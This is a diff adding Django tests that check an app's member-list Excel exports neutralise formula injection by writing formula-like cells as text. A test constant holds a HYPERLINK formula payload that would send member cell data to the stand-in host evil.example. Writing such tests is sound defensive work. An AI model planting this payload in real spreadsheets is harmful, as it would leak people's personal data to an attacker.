@@ -4,8 +4,10 @@ script it did not serve itself, and an upload is judged by its content."""
 import io
 import re
 import time
+import zipfile
 from pathlib import Path
 
+import openpyxl
 import pytest
 from django.conf import settings
 from django.core.exceptions import ValidationError
@@ -17,9 +19,11 @@ from django.utils import translation
 
 from meetings.models import Attachment
 from members import excel
+from members.models import Member
 from partybloc.filecheck import check_inflation
 from partybloc.jobs import services as jobs
 from partybloc.jobs.models import Job
+from partybloc.xlsx import table_workbook
 from tests.excel_files import many_rows, member_row, workbook_bytes
 from tests.test_meetings import submitted
 from tests.upload_files import (
@@ -269,3 +273,67 @@ def test_a_file_past_the_limit_stops_being_kept_and_the_form_says_so(
     request = WSGIRequest(upload.environ(client, reverse("members:import")))
     cut = request.FILES["file"]
     assert cut.size == 600 * 1024 and cut.read() == b""  # counted, but none of it kept
+
+
+# Exports carry no live formula ----------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&G2,"Xem chi tiết")'
+
+
+def _cells(content: bytes) -> list:
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def _no_formula_in(content: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+    assert [cell.coordinate for cell in _cells(content) if cell.data_type == "f"] == []
+
+
+def test_a_hometown_written_as_a_formula_is_exported_as_text(world, as_user):
+    world.an.hometown = HYPERLINK
+    world.an.save()
+    response = as_user(world.office).get(reverse("members:export"))
+    _no_formula_in(response.content)
+    hometowns = [cell.value for cell in _cells(response.content) if cell.column_letter == "F"]
+    assert "'" + HYPERLINK in hometowns
+
+
+def test_every_formula_start_is_neutralised_in_a_table_export():
+    starts = ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rCR"]
+    content = table_workbook("Danh sách", ["Tên"], [[text] for text in starts] + [[-3]])
+    _no_formula_in(content)
+    values = [cell.value for cell in _cells(content)][1:]
+    assert values == ["'" + text for text in starts] + [-3]
+
+
+def test_the_marked_copy_of_a_refused_file_keeps_typed_formulas_as_text(world):
+    content = workbook_bytes([member_row(world.finance_office, **{"Quê quán": HYPERLINK})])
+    marked = excel.errors_workbook(io.BytesIO(content), [excel.RowError(2, "Quê quán", "Sai")])
+    _no_formula_in(marked)
+
+
+def test_an_exported_formula_comes_back_as_typed_when_imported_again(world):
+    world.an.hometown = HYPERLINK
+    world.an.save()
+    exported = openpyxl.load_workbook(
+        io.BytesIO(
+            excel.export_members(
+                Member.objects.filter(pk=world.an.pk).select_related("organization"),
+                full_national_ids=True,
+            )
+        )
+    )
+    sheet = exported.worksheets[0]
+    headers = [cell.value for cell in sheet[1]]
+    new_id = world.an.national_id[:6] + "999999"  # a new member's numbers
+    sheet.cell(2, headers.index("Số CCCD") + 1).value = new_id
+    sheet.cell(2, headers.index("Số thẻ đảng viên") + 1).value = "79000123"
+    buffer = io.BytesIO()
+    exported.save(buffer)
+    parsed = excel.parse_rows(buffer, user=world.office)
+    assert parsed.errors == []
+    assert parsed.rows[0].member.hometown == HYPERLINK
